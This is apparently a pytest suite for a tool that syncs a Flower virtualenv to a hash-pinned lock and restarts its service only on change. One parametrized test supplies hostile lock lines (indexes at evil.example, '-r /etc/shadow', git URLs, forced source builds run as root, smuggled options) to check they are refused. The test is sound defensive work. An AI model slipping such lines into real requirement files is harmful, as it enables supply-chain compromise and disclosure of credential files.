"""nina-env-sync (nina.host.env_sync): a real venv, real pip, offline from a wheel cache the test
downloads once; the lock is written as `nina env lock` writes one (exact pins, sha256 of each
file). The packages are small pure-Python wheels so that they install on this machine's Python
(the hosts' locks are for CPython 3.12: tests/test_environments.py installs one of those)."""

from __future__ import annotations

import hashlib
import os
import subprocess
import sys
import venv
from pathlib import Path

import pytest
from test_environments import pypi_reachable

from nina import facts, render
from nina.host import env_sync

# flwr's own wheel (no dependencies installed: the lock names everything) and three small ones.
FIRST = {"flwr": facts.FLWR_VERSION, "tomli-w": "1.2.0", "mdurl": "0.1.2", "iterators": "0.0.2"}
SECOND = {"flwr": facts.FLWR_VERSION, "tomli-w": "1.1.0", "iterators": "0.0.2"}
CLEAN_ENV = {k: v for k, v in os.environ.items() if not k.startswith("PIP_")} | {"PIP_CONFIG_FILE": os.devnull}


@pytest.fixture(scope="module")
def cache(tmp_path_factory: pytest.TempPathFactory) -> Path:
    if not pypi_reachable():
        pytest.skip("PyPI (pypi.org:443) is unreachable: the test downloads its wheel cache once")
    d = tmp_path_factory.mktemp("wheels")
    for pins in (FIRST, SECOND):  # one download each: pip resolves one version per name
        cmd = [sys.executable, "-m", "pip", "download", "--quiet", "--disable-pip-version-check", "--no-deps", "--only-binary=:all:"]
        subprocess.run([*cmd, "-d", str(d), *(f"{n}=={v}" for n, v in pins.items())], check=True, env=CLEAN_ENV)
    return d


def lock_text(cache: Path, pins: dict[str, str]) -> str:
    lines = ["# a lock as `nina env lock` writes one: exact pins, every file's sha256\n"]
    for name, version in sorted(pins.items()):
        files = [p for p in cache.iterdir() if env_sync.canonical(p.name.split("-")[0]) == name and f"-{version}-" in p.name]
        assert files, (name, version)
        hashes = [f"    --hash=sha256:{hashlib.sha256(p.read_bytes()).hexdigest()}" for p in sorted(files)]
        lines.append(f"{name}=={version} \\\n" + " \\\n".join(hashes) + "\n")
    return "".join(lines)


@pytest.fixture
def flower_venv(tmp_path: Path) -> Path:
    d = tmp_path / "flower_env"
    venv.create(d, with_pip=True)
    return d


def run_sync(tmp_path: Path, cache: Path, venv_dir: Path, lock: str, *extra: str) -> subprocess.CompletedProcess[str]:
    (tmp_path / "env.lock").write_text(lock)
    calls = tmp_path / "calls.log"
    fake = tmp_path / "systemctl"
    fake.write_text(f'#!/bin/sh\necho "systemctl $*" >> {calls}\n')
    fake.chmod(0o755)
    argv = [sys.executable, "-I", "-m", "nina.host.env_sync", "--lock", str(tmp_path / "env.lock"), "--venv", str(venv_dir)]
    argv += ["--restart", facts.SUPERNODE_UNIT, "--pip-arg=--no-index", f"--pip-arg=--find-links={cache}", *extra]
    env = CLEAN_ENV | {"NINA_SYSTEMCTL": str(fake), "PYTHONPATH": render.SOURCE_ROOT}
    return subprocess.run(argv, capture_output=True, text=True, env=env, timeout=600)


def calls(tmp_path: Path) -> list[str]:
    log = tmp_path / "calls.log"
    lines = log.read_text().splitlines() if log.exists() else []
    log.unlink(missing_ok=True)
    return lines


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_sync_installs_the_lock_offline_removes_the_rest_and_restarts_only_on_change(
    tmp_path: Path, cache: Path, flower_venv: Path
) -> None:
    python = str(flower_venv / "bin" / "python")
    first = lock_text(cache, FIRST)
    done = run_sync(tmp_path, cache, flower_venv, first)
    assert done.returncode == 0, done.stderr
    assert "flwr is missing, the lock has" in done.stdout
    assert env_sync.differences(FIRST, env_sync.installed(python)) == []
    assert calls(tmp_path) == [f"systemctl try-restart {facts.SUPERNODE_UNIT}"]
    # In sync: nothing installed, nothing restarted.
    again = run_sync(tmp_path, cache, flower_venv, first)
    assert again.returncode == 0 and "is in sync" in again.stdout and calls(tmp_path) == []
    # Another environment: tomli-w downgraded, mdurl removed (the lock no longer names it).
    done = run_sync(tmp_path, cache, flower_venv, lock_text(cache, SECOND))
    assert done.returncode == 0, done.stderr
    assert (
        "tomli-w 1.2.0 is installed, the lock has 1.1.0" in done.stdout and "mdurl 0.1.2 is installed, the lock has no mdurl" in done.stdout
    )
    have = env_sync.installed(python)
    assert have["tomli-w"] == "1.1.0" and "mdurl" not in have and "pip" in have
    assert calls(tmp_path) == [f"systemctl try-restart {facts.SUPERNODE_UNIT}"]
    # --check names a package that someone changed by hand, and changes nothing.
    subprocess.run(
        [python, "-m", "pip", "install", "--quiet", "--no-index", f"--find-links={cache}", "tomli-w==1.2.0"], check=True, env=CLEAN_ENV
    )
    check = run_sync(tmp_path, cache, flower_venv, lock_text(cache, SECOND), "--check")
    assert check.returncode == 1 and "tomli-w 1.2.0 is installed, the lock has 1.1.0" in check.stdout
    assert env_sync.installed(python)["tomli-w"] == "1.2.0" and calls(tmp_path) == []


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_a_file_that_is_not_the_locked_one_is_refused_and_nothing_restarts(tmp_path: Path, cache: Path, flower_venv: Path) -> None:
    bad = tmp_path / "bad-cache"
    bad.mkdir()
    for p in cache.iterdir():
        (bad / p.name).write_bytes(p.read_bytes() + (b"\0" if p.name.startswith("tomli_w-1.2.0") else b""))
    done = run_sync(tmp_path, bad, flower_venv, lock_text(cache, FIRST))
    assert done.returncode == 1
    assert "pip install of the lock failed" in done.stderr and "HASHES" in done.stderr.upper()
    assert calls(tmp_path) == []


def test_a_lock_without_flwr_or_with_a_loose_pin_is_refused(tmp_path: Path) -> None:
    (tmp_path / "l").write_text("numpy==2.4.6 \\\n    --hash=sha256:" + "0" * 64 + "\n")
    with pytest.raises(env_sync.SyncError, match="no flwr"):
        env_sync.read_lock(str(tmp_path / "l"))
    (tmp_path / "l").write_text("flwr>=1\n")
    with pytest.raises(env_sync.SyncError, match="not `name==version`"):
        env_sync.read_lock(str(tmp_path / "l"))
    assert env_sync.main(["--lock", str(tmp_path / "absent"), "--venv", str(tmp_path), "--check"]) == 1


def test_differences_ignore_the_venvs_own_pip_only() -> None:
    lock = {"flwr": "1.31.0", "numpy": "2.4.6"}
    assert env_sync.differences(lock, {"flwr": "1.31.0", "numpy": "2.4.6", "pip": "24.0"}) == []
    assert env_sync.differences(lock, {"flwr": "1.31.0", "numpy": "2.4.5", "setuptools": "70"}) == [
        "numpy 2.4.5 is installed, the lock has 2.4.6",
        "setuptools 70 is installed, the lock has no setuptools",
    ]


HASH = "    --hash=sha256:" + "0" * 64
GOOD_LOCK = f"# comment\nflwr=={facts.FLWR_VERSION} \\\n{HASH} \\\n{HASH}\n    # via a comment uv writes\nnumpy==2.4.6 \\\n{HASH}\n"


@pytest.mark.parametrize(
    "hostile",
    [
        "--index-url https://evil.example/simple",  # pip follows it (checked by hand: "Looking in indexes: ...")
        "--extra-index-url https://evil.example/simple",
        "-i https://evil.example/simple",
        "--find-links /tmp/planted",
        "-f /tmp/planted",
        "-r /etc/shadow",  # root's pip reads another file, and prints its first lines in the error
        "-c other.txt",
        "-e git+https://evil.example/x.git#egg=x",
        "--no-binary :all:",  # every package built from source: setup.py run as root
        "--trusted-host evil.example",
        "    --index-url https://evil.example/simple",  # indented, yet not a continuation: pip reads it as an option
        "\t-r other.txt",
        f"numpy==2.4.6;python_version>'3' \\\n{HASH}",  # a marker glued to the version
        f"numpy==2.4.6@https://evil.example/numpy.whl \\\n{HASH}",
        f"numpy==2.4.6 \\\n    --config-settings=--build-option=--evil \\\n{HASH}",  # a per-requirement option in the continuation
        f"numpy==2.4.6 \\\n    --hash=sha256:{'0' * 63}",  # a short hash
        "numpy==2.4.6 \\\n--index-url https://evil.example/simple",  # an option joined to the requirement by its backslash
        "numpy==2.4.6 \\",  # a continuation that never comes
    ],
)
def test_a_lock_line_that_is_not_a_pin_hash_or_comment_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str], hostile: str) -> None:
    assert env_sync.parse_lock(GOOD_LOCK) == {"flwr": facts.FLWR_VERSION, "numpy": "2.4.6"}
    text = GOOD_LOCK.replace("numpy==2.4.6 \\\n" + HASH + "\n", hostile + "\n")
    assert text != GOOD_LOCK
    with pytest.raises(ValueError, match="lock line"):
        env_sync.parse_lock(text)
    (tmp_path / "l").write_text(text)
    assert env_sync.main(["--lock", str(tmp_path / "l"), "--venv", str(tmp_path), "--check"]) == 1
    err = capsys.readouterr().err
    assert err.startswith(f"nina-env-sync: cannot read the lock {tmp_path / 'l'}: lock line ") and err.count("\n") == 1, err


def test_a_venv_whose_python_prints_more_than_the_listing_is_still_compared(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # Careless operator: something pip-installed by hand into the venv ships a .pth file that prints
    # (site runs its `import` lines at every start, -I or not); the listing was read as JSON as it
    # came, so nina-env-sync, root's delivery step, died with a JSONDecodeError traceback, and could
    # never remove the package that printed.
    d = tmp_path / "flower_env"
    venv.create(d, with_pip=False)
    (site,) = (d / "lib").glob("python3*/site-packages")
    (site / "noisy.pth").write_text("import sys; print('Welcome to the cluster')\n")
    (tmp_path / "l").write_text(GOOD_LOCK)
    assert env_sync.main(["--lock", str(tmp_path / "l"), "--venv", str(d), "--check"]) == 1
    out, err = capsys.readouterr()
    assert err == "" and f"nina-env-sync: flwr is missing, the lock has {facts.FLWR_VERSION}" in out, (out, err)


@pytest.mark.parametrize("said", ["Segmentation fault", '[["flwr", 5]]', "{}", ""])
def test_a_python_that_does_not_answer_the_listing_is_one_refusal_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], said: str
) -> None:
    d = tmp_path / "flower_env"
    (d / "bin").mkdir(parents=True)
    (d / "bin" / "python").write_text(f"#!/bin/sh\nprintf '%s\\n' {said!r}\n")
    (d / "bin" / "python").chmod(0o755)
    (tmp_path / "l").write_text(GOOD_LOCK)
    assert env_sync.main(["--lock", str(tmp_path / "l"), "--venv", str(d), "--check"]) == 1
    err = capsys.readouterr().err
    assert err.startswith(f"nina-env-sync: cannot list the venv's packages with {d}/bin/python: ") and err.count("\n") == 1, err
